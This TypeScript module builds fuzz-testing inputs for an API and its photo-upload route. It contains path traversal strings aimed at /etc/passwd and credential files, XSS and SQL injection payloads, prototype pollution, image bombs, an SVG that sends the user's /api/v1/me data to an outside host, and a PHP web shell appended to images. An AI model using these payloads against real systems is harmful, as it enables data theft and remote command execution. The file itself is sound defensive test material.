/**
 * The raw material of bad input: odd strings (NUL, lone surrogates, right-to-left marks,
 * combining characters, emoji, huge), values of the wrong type, JSON nested thousands deep,
 * broken JSON, wrong content types, broken multipart bodies, image bombs and other files that
 * are not photos, file names that try to leave their directory.
 */
import fc from 'fast-check';
import type { SampleImages } from './world.ts';

/** A piece of JSON text put into a body as it is (nesting too deep to build as a value, say). */
export class RawJson {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

/** Text that is hard on parsers, databases, normalisers and logs. */
export const oddStrings: readonly string[] = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDC00y',
  '\uDBFF\uDFFF',
  '\u202Eevil\u202C',
  '\u200F\u200E\u061C',
  'e\u0301\u0301\u0301\u0301\u0301',
  `Z${'\u0336\u0337\u0338\u0334'.repeat(40)}`,
  '\uFEFFbom',
  '\u200B\u200C\u200D\u2060',
  '👨‍👩‍👧‍👦🏳️‍🌈🇨🇳',
  '🙂'.repeat(300),
  '𠀀𠀁𪚥',
  '１２３',
  '١٢٣',
  '\u00A0',
  '\uFFFF\uFFFE',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\boot.ini',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '"; DROP TABLE citizens; --',
  // Template injection, as the engines that evaluate it write it.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the payload
  '{{7*7}}${7*7}',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x10',
  ' 1 ',
  '9'.repeat(40),
  'true',
  'null',
  '{"$ne":null}',
  '\r\nX-Injected: 1',
];

/** Lengths of huge strings: over every field's limit, near the body limit, over it. */
const HUGE_LENGTHS = [1_000, 10_000, 100_000, 1_100_000] as const;

/** A huge string of one of {@link HUGE_LENGTHS}. */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...HUGE_LENGTHS), fc.constantFrom('x', '汉', '🙂', '\u0301', 'a\u0000'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Any odd string: from the list, random, random graphemes, or huge. */
export const oddString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...oddStrings) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeString },
);

/** JSON text nested `depth` deep (arrays or objects). */
export function deepJson(depth: number, kind: 'array' | 'object'): RawJson {
  return kind === 'array'
    ? new RawJson(`${'['.repeat(depth)}1${']'.repeat(depth)}`)
    : new RawJson(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
}

/** Nesting depths: deeper than any schema, deeper than naive recursion survives. */
export const deepNesting: fc.Arbitrary<RawJson> = fc
  .tuple(fc.constantFrom(20, 1_000, 10_000, 200_000), fc.constantFrom('array' as const, 'object' as const))
  .map(([depth, kind]) => deepJson(depth, kind));

/** Values of every JSON type (and odd numbers), for a field that wants another type. */
export const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: oddString },
  {
    weight: 2,
    arbitrary: fc.constantFrom(0, -1, 1.5, -0, 2 ** 53 + 1, -(2 ** 63), 1e308, -1e-308, 4294967296, 2147483648),
  },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...oddStrings), { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.array(fc.integer(), { minLength: 1000, maxLength: 3000 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...oddStrings), fc.constantFrom(...oddStrings)) },
  { weight: 1, arbitrary: fc.constant({}) },
  { weight: 1, arbitrary: fc.constant([]) },
  { weight: 1, arbitrary: deepNesting },
);

/** Property names that should never be taken at face value. */
export const oddKeys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  '',
  ' ',
  '\u0000',
  'id',
  'status',
  'cityId',
  'city_id',
  'role',
  'roles',
  'createdAt',
  'version',
  'x'.repeat(300),
  '字段',
  '$where',
];

/** JSON texts that are broken or odd at the top level. */
export const badJsonTexts: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '{"a":',
  '{"a":1}}',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  '[1,2',
  'nul',
  'NaN',
  'Infinity',
  '"\\ud800"',
  '"\\u0000"',
  '{"a":"\\x41"}',
  '{"a":1e999999}',
  '\uFEFF{}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  '[]',
  'null',
  '0',
  '"x"',
  'true',
  '\u0000',
  '\u00ff\u00fe',
];

/** Broken JSON, or JSON nested deeper than anyone would write. */
export const badJsonText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...badJsonTexts) },
  { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 1, arbitrary: deepNesting.map((raw) => raw.text) },
  { weight: 1, arbitrary: deepNesting.map((raw) => raw.text.slice(0, Math.floor(raw.text.length / 2))) },
);

/** Content types a client may claim, rightly or not. */
export const oddContentTypes: readonly string[] = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json;;;',
  'application/JSON',
  'application/problem+json',
  'application/merge-patch+json',
  'application/octet-stream',
  'image/png',
  'image/svg+xml',
  'text/html',
  'application/javascript',
  '*/*',
  'json',
  '',
  ';',
  'a'.repeat(2000),
];

/** File names that try to leave their directory or to confuse what reads them. */
export const trickyFileNames: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\config\\sam',
  '/etc/shadow',
  'C:\\Windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'photo.jpg\u0000.exe',
  'photo\u202Egpj.exe',
  `${'a'.repeat(5000)}.jpg`,
  '.',
  '..',
  '',
  ' ',
  'CON',
  'photo.php.jpg',
  '照片.jpg',
  '🙂.png',
  'a/b/c.png',
  '\\\\server\\share\\x.png',
  'file:///etc/passwd',
];

const CRLF = '\r\n';

/** One part of a multipart body. */
interface Part {
  name: string;
  fileName?: string;
  contentType?: string;
  content: Buffer;
}

function multipartBody(boundary: string, parts: Part[], close: boolean): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    let head = `--${boundary}${CRLF}Content-Disposition: form-data; name="${part.name}"`;
    if (part.fileName !== undefined) head += `; filename="${part.fileName}"`;
    head += CRLF;
    if (part.contentType) head += `Content-Type: ${part.contentType}${CRLF}`;
    chunks.push(Buffer.from(`${head}${CRLF}`, 'utf8'), part.content, Buffer.from(CRLF));
  }
  if (close) chunks.push(Buffer.from(`--${boundary}--${CRLF}`));
  return Buffer.concat(chunks);
}

/** A raw body with the content type it is sent under. */
export interface RawBody {
  contentType: string | undefined;
  payload: Buffer | string;
  /** What the body is, for the case's description. */
  label: string;
}

/** Multipart bodies of every broken kind, carrying files with tricky names. */
export function multipartBodies(images: SampleImages): fc.Arbitrary<RawBody> {
  const file = fc.constantFrom(
    { contentType: 'image/png', content: images.png },
    { contentType: 'image/jpeg', content: images.jpeg },
    { contentType: 'image/svg+xml', content: Buffer.from(svgWithScript) },
    { contentType: 'text/plain', content: Buffer.from('hello') },
  );
  const boundary = fc.oneof(
    fc.constantFrom('X-BOUNDARY', '----WebKitFormBoundary7MA4YWxkTrZu0gW', '"quoted"', ' ', 'a'.repeat(200)),
    fc.stringMatching(/^[A-Za-z0-9'()+_,./:=?-]{1,70}$/),
  );
  return fc
    .record({
      boundary,
      headerBoundary: fc.option(fc.constantFrom('other', ''), { nil: undefined }),
      shape: fc.constantFrom('ok', 'missing-part', 'wrong-name', 'truncated', 'no-close', 'many-parts', 'empty'),
      fieldName: fc.constantFrom('file', 'photo', 'image', 'files[]', '', '__proto__'),
      fileName: fc.option(fc.constantFrom(...trickyFileNames), { nil: undefined }),
      file,
      manyParts: fc.integer({ min: 100, max: 5000 }),
    })
    .map((m) => {
      const part: Part = {
        name: m.shape === 'wrong-name' ? 'not-the-file' : m.fieldName,
        ...(m.fileName === undefined ? {} : { fileName: m.fileName }),
        contentType: m.file.contentType,
        content: m.file.content,
      };
      let parts: Part[] = [part];
      if (m.shape === 'missing-part') parts = [{ name: 'purpose', content: Buffer.from('report_photo') }];
      if (m.shape === 'many-parts') {
        parts = Array.from({ length: m.manyParts }, (_, i) => ({ name: `p${i}`, content: Buffer.from('x') }));
      }
      if (m.shape === 'empty') parts = [];
      let body = multipartBody(m.boundary, parts, m.shape !== 'no-close');
      if (m.shape === 'truncated') body = body.subarray(0, Math.max(1, Math.floor(body.length / 2)));
      const declared = m.headerBoundary ?? m.boundary;
      return {
        contentType: `multipart/form-data; boundary=${declared}`,
        payload: body,
        label: `multipart ${m.shape} (${parts.length} parts)`,
      };
    });
}

/** An SVG that runs script when opened as a document. */
export const svgWithScript =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
  '<script>fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))</script></svg>';

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, crc]);
}

/** A PNG whose header declares `width` × `height` pixels (with a tiny, truncated image stream). */
export function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A baseline JPEG whose frame header declares `width` × `height` pixels. */
export function jpegDeclaring(width: number, height: number): Buffer {
  const sof = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    (height >> 8) & 0xff,
    height & 0xff,
    (width >> 8) & 0xff,
    width & 0xff,
    0x03,
    0x01,
    0x22,
    0x00,
    0x02,
    0x11,
    0x01,
    0x03,
    0x11,
    0x01,
  ]);
  const app0 = Buffer.from([
    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.from([0xff, 0xd9])]);
}

/** A WebP (extended format) whose canvas is `width` × `height` (each at most 16,777,216). */
export function webpDeclaring(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const chunk = Buffer.concat([Buffer.from('VP8X'), Buffer.from([10, 0, 0, 0]), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), chunk]);
}

/** A GIF whose screen is `width` × `height`. */
export function gifDeclaring(width: number, height: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  return Buffer.concat([Buffer.from('GIF89a'), screen, Buffer.from([0x3b])]);
}

/** Bodies for the upload route: image bombs, truncated and lying images, SVG with script, polyglots, no image at all. */
export function uploadBodies(images: SampleImages): fc.Arbitrary<RawBody> {
  const bombSide = fc.constantFrom(65535, 50000, 20000, 8000);
  const imageType = fc.constantFrom('image/png', 'image/jpeg', 'image/webp', 'application/octet-stream', 'image/gif');
  const sample = fc.constantFrom(
    ['png', images.png] as const,
    ['jpeg', images.jpeg] as const,
    ['webp', images.webp] as const,
  );
  return fc.oneof(
    fc
      .tuple(bombSide, bombSide, fc.constantFrom('png', 'jpeg', 'webp', 'gif'), imageType)
      .map(([w, h, format, contentType]) => ({
        contentType,
        payload:
          format === 'png'
            ? pngDeclaring(w, h)
            : format === 'jpeg'
              ? jpegDeclaring(w, h)
              : format === 'webp'
                ? webpDeclaring(w, h)
                : gifDeclaring(w, h),
        label: `${format} bomb ${w}×${h}`,
      })),
    fc.tuple(sample, fc.double({ min: 0, max: 0.95, noNaN: true }), imageType).map(([[format, bytes], cut, type]) => ({
      contentType: type,
      payload: bytes.subarray(0, Math.floor(bytes.length * cut)),
      label: `${format} truncated to ${Math.floor(bytes.length * cut)} bytes`,
    })),
    fc
      .tuple(sample, fc.constantFrom('image/svg+xml', 'image/png', 'image/jpeg', 'text/html'))
      .map(([[format], type]) => ({
        contentType: type,
        payload: svgWithScript,
        label: `svg with script as ${type} (not ${format})`,
      })),
    fc.tuple(sample, imageType).map(([[format, bytes], type]) => ({
      contentType: type,
      payload: Buffer.concat([bytes, Buffer.from('<script>alert(1)</script><?php system($_GET[0]); ?>')]),
      label: `${format} with a script after it`,
    })),
    fc.tuple(fc.uint8Array({ maxLength: 4096 }), imageType).map(([bytes, type]) => ({
      contentType: type,
      payload: Buffer.from(bytes),
      label: `${bytes.length} random bytes`,
    })),
    fc.tuple(sample, fc.constantFrom(...oddContentTypes)).map(([[format, bytes], type]) => ({
      contentType: type || undefined,
      payload: bytes,
      label: `${format} as ${type.slice(0, 40) || 'no content type'}`,
    })),
    fc.constantFrom<RawBody>(
      { contentType: 'image/png', payload: Buffer.alloc(0), label: 'empty' },
      { contentType: 'image/jpeg', payload: Buffer.alloc(11 * 1024 * 1024, 0xff), label: 'over the size limit' },
      { contentType: 'image/png', payload: Buffer.from('%PDF-1.4\n%âãÏÓ\n'), label: 'a PDF' },
      { contentType: 'image/png', payload: Buffer.from('PK\u0003\u0004zip'), label: 'a zip' },
      { contentType: 'image/png', payload: Buffer.from('<html><script>alert(1)</script></html>'), label: 'html' },
    ),
  );
}
